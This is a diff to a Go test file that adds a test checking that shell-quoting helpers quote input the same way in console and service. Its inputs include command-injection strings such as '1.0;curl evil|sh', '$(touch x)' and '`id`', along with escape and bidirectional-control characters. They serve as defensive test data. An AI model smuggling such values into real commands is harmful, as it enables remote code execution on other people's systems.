@@ -15,6 +15,8 @@ import (
 	"strings"
 	"testing"
 	"time"
+
+	"firethorn/internal/core/shell"
 )
 
 // call is a function of src/core, its arguments, and what it must give.
@@ -72,6 +74,17 @@ func check(t *testing.T, module string, calls []call) {
 }
 
 type m = map[string]any
+
+// Console and service quote alike (internal/core/shell), so that a command is as
+// harmless wherever it is copied from.
+func TestShell_QuotesAsTheServiceDoes(t *testing.T) {
+	var calls []call
+	for _, text := range []string{"4.2.0", "1.0;curl evil|sh", "$(touch x)", "`id`", "a\nb", "it's", `"x"`, `\`, `\'`, "", "-rf", "~", "a=b", "{a,b}", "\x03\x15rm\n", "\x1b[201~x", "\u202eabc", "\u2028", "é\x07", "ü", "a\tb"} {
+		calls = append(calls, call{shell.Quote(text), "shell", []any{text}}, call{shell.Option("--release", text), "option", []any{"--release", text}}, call{shell.Arguments("a", text), "args", []any{"a", text}})
+	}
+	check(t, "shell", calls)
+}
+
 
 func TestFormat(t *testing.T) {
 	const now = 1795435200000 // 2026-11-23T12:00:00Z
